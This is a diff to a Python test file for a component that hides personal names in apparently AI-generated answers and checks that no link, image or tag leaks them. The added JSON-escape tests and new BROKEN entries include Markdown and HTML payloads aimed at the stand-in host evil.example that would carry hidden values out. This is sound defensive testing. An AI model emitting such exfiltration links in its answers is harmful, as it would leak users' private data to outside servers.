@@ -1,5 +1,6 @@
 """No link, image or tag of an answer sends originals away, however it is written."""
 
+import json
 import operator
 
 import numpy as np
@@ -307,6 +308,51 @@ def test_brackets_of_json_are_no_labels(conversation):
     assert conversation.restore(answer) == answer
 
 
+def _escaped(text, how):
+    """Write a text as a part of a string of JSON, with ever more escapes."""
+    written = json.dumps(text, ensure_ascii=how != "few")[1:-1]
+    if how == "every":
+        written = "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in text)
+    return written.replace("/", "\\/") if how == "slashes" else written
+
+
+@pytest.mark.parametrize("how", ["few", "slashes", "every"])
+def test_no_escape_of_json_hides_a_link(how, conversation):
+    c = conversation
+    sent = c.hide("Okonkwo")
+    for link in (*LINKS, *BROKEN, *REFERENCES, *PARTS):
+        before, behind = _put(link, "\0").split("\0")
+        for begin in ('{"a": "b\\n', '```json\n[{\n  "a" :\n"'):
+            answer = f"{begin}{_escaped(before, how)}{sent}{_escaped(behind, how)}"
+            assert c.restore(answer) == answer, link
+            assert "".join(c.restore_stream(list(answer))) == answer
+
+
+@pytest.mark.parametrize(
+    "text", ["[x]: @", "> [x]: b @", "[x]:@", "[^1]: //evil.example/?q= @"]
+)
+def test_a_string_of_json_begins_a_line(text, conversation):
+    answer = json.dumps({"a": text.replace("@", conversation.hide("Okonkwo"))})
+    assert conversation.restore(answer) == answer
+    assert "".join(conversation.restore_stream(list(answer))) == answer
+
+
+def test_originals_come_back_in_json_that_is_read_as_text(conversation):
+    said = (
+        '{"subject": "Okonkwo\\u2019s \\"order\\"", "text":\n  '
+        '"Dear Okonkwo,\\nwrite to Okonkwo\\n\\n5 \\u003e 4 \\\\ 2\\/3: Okonkwo"}'
+    )
+    answer = said.replace("Okonkwo", conversation.hide("Okonkwo"))
+    assert conversation.restore(answer) == said
+    assert "".join(conversation.restore_stream(list(answer))) == said
+
+
+def test_a_backslash_outside_of_json_is_none_of_its_escapes(conversation):
+    said = "Let \\beta be \\frac{1}{2}, says Okonkwo"
+    answer = said.replace("Okonkwo", conversation.hide("Okonkwo"))
+    assert conversation.restore(answer) == said
+
+
 # What strangers wrote to get past the rules; each sends what stands at @ to a server
 # for at least one usual program.
 BROKEN = (
@@ -348,6 +394,7 @@ BROKEN = (
     "[x]: ]:@",
     ":   [x]: @",
     "\ufeff[x]: @",
+    "\t\x0c\u2003[x]: @",
     "a. [x]: @",
     "b) > C) [x]: @",
     # A blank before the target, attributes, escapes.
@@ -366,6 +413,14 @@ BROKEN = (
     "[a [b](c) d](https://evil.example/)@",
     "5 <a https://evil.example/>@",
     '<a ! href="https://evil.example/">@',
+    # A target in what looks like one, an element in another one, a line that goes on.
+    "[x](a b ![y](< //evil.example/?)) @>)",
+    "[x](a ![y] (<\\//evil.example/?)) @>)",
+    "![x](a (b ![y](<.//evil.example/?))) @>)",
+    "<style></script>@",
+    "<script><style></script>@",
+    "[x]: a.evil.example\\\n@![x]",
+    "[^1]: a.evil.example\\\n@![x]",
     # Letters that regular expressions, and names of hosts, take for others.
     "localho\u017ft:80/@",
     "http\u017f:@",
